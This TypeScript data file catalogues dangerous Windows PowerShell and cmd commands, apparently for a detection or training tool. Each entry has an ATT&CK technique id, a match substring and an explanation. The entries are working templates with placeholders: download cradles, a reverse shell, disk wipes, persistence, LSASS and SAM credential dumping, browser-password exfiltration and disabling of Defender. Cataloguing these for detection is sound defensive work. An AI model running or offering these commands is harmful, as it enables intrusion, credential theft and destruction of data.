import type { Cat, Danger, Shell } from './types.js';

function d(cat: Cat, sh: Shell, tech: string, needle: string, t: string, what: string): Danger {
  return { cat, sh, tech, needle, t, what };
}

/** Dangerous Windows commands (PowerShell and cmd). See `commands.ts`. */
export const WINDOWS_DANGERS: readonly Danger[] = [
  // download and execute
  d('download', 'powershell', 'T1059.001', '| iex', 'iwr -useb «psurl» | iex', 'downloads a PowerShell script with Invoke-WebRequest (-useb = UseBasicParsing) and pipes the text into Invoke-Expression'),
  d('download', 'powershell', 'T1059.001', 'DownloadString', "IEX (New-Object Net.WebClient).DownloadString('«psurl»')", 'uses a .NET WebClient to fetch a script as a string and runs it in memory with IEX'),
  d('download', 'powershell', 'T1059.001', 'iex(irm', 'powershell -NoP -W Hidden -c "iex(irm «psurl»)"', 'starts a hidden PowerShell without a profile that fetches a script with Invoke-RestMethod and executes it'),
  d('download', 'powershell', 'T1059.001', 'Invoke-Expression', 'Invoke-Expression (Invoke-WebRequest -UseBasicParsing «psurl»).Content', 'runs the body of a web response as PowerShell code'),
  d('download', 'powershell', 'T1105', 'Start-Process', 'iwr «exeurl» -OutFile $env:TEMP\\«exe»; Start-Process $env:TEMP\\«exe»', 'downloads an executable into the temp folder and launches it'),
  d('download', 'powershell', 'T1059.001', 'Set-ExecutionPolicy Bypass', 'Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString(\'«psurl»\'))', 'lifts the script execution policy for this session and then runs a downloaded script'),
  d('download', 'cmd', 'T1105', 'certutil -urlcache', 'certutil -urlcache -split -f «exeurl» %TEMP%\\«exe» && %TEMP%\\«exe»', 'abuses certutil\'s URL cache feature as a downloader and runs the saved file'),
  d('download', 'cmd', 'T1218.005', 'mshta http', 'mshta «htaurl»', 'has mshta.exe fetch an HTML application from «host» and run its script with the user\'s rights'),
  // reverse shells
  d('revshell', 'powershell', 'T1059.001', 'TCPClient', "$c=New-Object Net.Sockets.TCPClient('«ip»',«port»);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$w=([Text.Encoding]::ASCII).GetBytes($o+'PS> ');$s.Write($w,0,$w.Length)}", 'opens a TCP connection to «ip»:«port», reads commands from it, runs each with iex and writes the output back'),
  d('revshell', 'cmd', 'T1059.003', 'nc.exe', 'nc.exe «ip» «port» -e cmd.exe', 'connects the Windows build of netcat to «ip» and attaches cmd.exe to it'),
  // destructive
  d('destroy', 'powershell', 'T1485', 'Remove-Item C:\\', 'Remove-Item -Path C:\\ -Recurse -Force', 'deletes the contents of the system drive recursively, read-only and hidden files included'),
  d('destroy', 'powershell', 'T1561', 'Clear-Disk', 'Clear-Disk -Number 0 -RemoveData -Confirm:$false', 'wipes all partitions and data from disk 0 without asking for confirmation'),
  d('destroy', 'cmd', 'T1490', 'delete shadows', 'vssadmin delete shadows /all /quiet', 'deletes every Volume Shadow Copy without a prompt, removing the usual way to roll files back'),
  d('destroy', 'cmd', 'T1490', 'shadowcopy delete', 'wmic shadowcopy delete', 'removes all shadow copies through WMI'),
  d('destroy', 'cmd', 'T1490', 'recoveryenabled', 'bcdedit /set {default} recoveryenabled No && bcdedit /set {default} bootstatuspolicy ignoreallfailures', 'turns off Windows automatic recovery and boot-failure handling'),
  d('destroy', 'cmd', 'T1561', 'format C:', 'format C: /FS:NTFS /Q /Y', 'quick-formats the system drive without asking'),
  d('destroy', 'cmd', 'T1485', 'rd /s /q C:\\', 'rd /s /q C:\\', 'removes the whole C: directory tree quietly'),
  d('destroy', 'cmd', 'T1485', 'del /f /s /q', 'del /f /s /q C:\\Windows\\System32\\*', 'force-deletes the files in System32, which leaves Windows unbootable'),
  // persistence
  d('persist', 'cmd', 'T1547.001', 'CurrentVersion\\Run', 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v «reg» /t REG_SZ /d "C:\\Users\\Public\\«exe»" /f', 'adds a Run key value so C:\\Users\\Public\\«exe» starts at every logon'),
  d('persist', 'cmd', 'T1547.001', 'CurrentVersion\\Run', 'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run" /v «reg» /d "powershell -w hidden -c iex(irm «psurl»)" /f', 'registers a machine-wide autostart that downloads and runs a script at every logon'),
  d('persist', 'cmd', 'T1053.005', 'schtasks /create', 'schtasks /create /tn "«task»" /tr "powershell -w hidden -ep bypass -c iex(irm «psurl»)" /sc onlogon /ru SYSTEM', 'creates a scheduled task running as SYSTEM at every logon that fetches and runs a remote script'),
  d('persist', 'cmd', 'T1053.005', 'schtasks /create', 'schtasks /create /sc minute /mo 15 /tn «task» /tr C:\\ProgramData\\«exe» /f', 'schedules C:\\ProgramData\\«exe» to run every 15 minutes under a harmless-looking task name'),
  d('persist', 'powershell', 'T1547.001', 'CurrentVersion\\Run', "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name «reg» -Value 'C:\\Users\\Public\\«exe»' -Force", 'writes a Run key entry from PowerShell so the program starts at logon'),
  d('persist', 'powershell', 'T1546.003', '__EventFilter', "$f = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='«task»';EventNameSpace='root\\cimv2';QueryLanguage='WQL';Query=\"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\"}\n$c = Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{Name='«task»';CommandLineTemplate='C:\\ProgramData\\«exe»'}\nSet-WmiInstance -Namespace root\\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$f;Consumer=$c}", 'creates a permanent WMI event subscription: a filter that fires every minute, a consumer that starts C:\\ProgramData\\«exe», and the binding between them'),
  d('persist', 'cmd', 'T1136.001', 'net user', 'net user «user»2 P@ssw0rd123 /add && net localgroup administrators «user»2 /add', 'creates a local account with a known password and adds it to Administrators'),
  // credential access
  d('creds', 'cmd', 'T1003.001', 'lsass', 'procdump.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp', 'writes a full memory dump (-ma) of the LSASS process, which holds logon credentials, to disk'),
  d('creds', 'cmd', 'T1003.001', 'comsvcs.dll', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump «pid» C:\\Windows\\Temp\\out.dmp full', 'calls the MiniDump export of comsvcs.dll to dump the memory of process «pid» (LSASS) without any extra tools'),
  d('creds', 'cmd', 'T1003.001', 'sekurlsa', 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', 'enables the debug privilege and has mimikatz print the credentials cached in LSASS'),
  d('creds', 'cmd', 'T1003.002', 'reg save HKLM\\SAM', 'reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save && reg save HKLM\\SYSTEM C:\\Windows\\Temp\\system.save', 'exports the SAM and SYSTEM hives, which together give the local password hashes'),
  d('creds', 'cmd', 'T1555.003', 'Login Data', 'copy "%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data" %TEMP%\\ld.db', 'copies Chrome\'s saved-logins database out of the profile'),
  d('creds', 'powershell', 'T1555.003', 'Login Data', 'Copy-Item "$env:LOCALAPPDATA\\Microsoft\\Edge\\User Data\\Default\\Login Data" "$env:TEMP\\ld"; Invoke-WebRequest -Uri «upurl» -Method Post -InFile "$env:TEMP\\ld"', 'copies Edge\'s saved-password store and uploads it to «host»'),
  d('creds', 'cmd', 'T1003.003', 'ntdsutil', 'ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ntds" q q', 'makes an install-from-media copy of the Active Directory database, every domain hash included'),
  // defense evasion
  d('evasion', 'powershell', 'T1562.001', 'DisableRealtimeMonitoring', 'Set-MpPreference -DisableRealtimeMonitoring $true', 'switches off Microsoft Defender\'s real-time protection'),
  d('evasion', 'powershell', 'T1562.001', 'ExclusionPath', 'Add-MpPreference -ExclusionPath C:\\', 'excludes the entire C: drive from Defender scanning'),
  d('evasion', 'powershell', 'T1562.001', 'DisableBehaviorMonitoring', 'Set-MpPreference -DisableIOAVProtection $true -DisableBehaviorMonitoring $true -DisableScriptScanning $true', 'turns off Defender\'s download scanning, behaviour monitoring and script scanning in one go'),
  d('evasion', 'cmd', 'T1070.001', 'wevtutil cl', 'wevtutil cl Security && wevtutil cl System', 'clears the Security and System event logs'),
  d('evasion', 'powershell', 'T1070.001', 'Clear-EventLog', 'Clear-EventLog -LogName Security,System,Application', 'empties three Windows event logs at once'),
  d('evasion', 'powershell', 'T1027', '-enc', 'powershell -nop -w hidden -enc «b64ps»', 'runs a base64-encoded (UTF-16LE) command in a hidden window, so the real command line is not visible'),
  d('evasion', 'cmd', 'T1562.004', 'advfirewall', 'netsh advfirewall set allprofiles state off', 'disables Windows Firewall for the domain, private and public profiles'),
  d('evasion', 'cmd', 'T1562.001', 'WinDefend', 'sc stop WinDefend && sc config WinDefend start= disabled', 'stops the Defender service and keeps it from starting'),
  // LOLBins
  d('lolbin', 'cmd', 'T1218.010', 'scrobj.dll', 'regsvr32 /s /n /u /i:«scturl» scrobj.dll', 'makes regsvr32 load a remote scriptlet through scrobj.dll (the "Squiblydoo" technique), bypassing application allow-lists'),
  d('lolbin', 'cmd', 'T1197', 'bitsadmin /transfer', 'bitsadmin /transfer job /download /priority high «exeurl» C:\\Users\\Public\\«exe» && start C:\\Users\\Public\\«exe»', 'uses the Background Intelligent Transfer Service to download a file and then starts it'),
  d('lolbin', 'cmd', 'T1047', 'process call create', 'wmic process call create "powershell -w hidden -c iex(irm «psurl»)"', 'asks WMI to spawn a hidden PowerShell that runs a downloaded script'),
  d('lolbin', 'cmd', 'T1047', '/node:', 'wmic /node:«ip» /user:«user» process call create "cmd /c C:\\Windows\\Temp\\«exe»"', 'starts a program on the remote machine «ip» through WMI'),
  d('lolbin', 'cmd', 'T1218.007', 'msiexec /q /i http', 'msiexec /q /i «msiurl»', 'installs a package straight from a URL, silently (/q)'),
  d('lolbin', 'cmd', 'T1218.011', 'rundll32', 'rundll32.exe \\\\«ip»\\share\\«dll»,DllRegisterServer', 'loads a DLL from a remote SMB share and calls its export'),
  d('lolbin', 'cmd', 'T1218.011', 'RunHTMLApplication', 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:«scturl»")', 'abuses rundll32 and mshtml to run remote script code'),
  d('lolbin', 'cmd', 'T1218', 'cmstp', 'cmstp.exe /ni /s C:\\Users\\Public\\«reg».inf', 'installs a connection profile whose INF file runs commands, bypassing UAC'),
  d('lolbin', 'cmd', 'T1140', 'certutil -decode', 'certutil -decode C:\\Users\\Public\\«reg».txt C:\\Users\\Public\\«exe» && C:\\Users\\Public\\«exe»', 'decodes a base64 text file into an executable and runs it'),
];
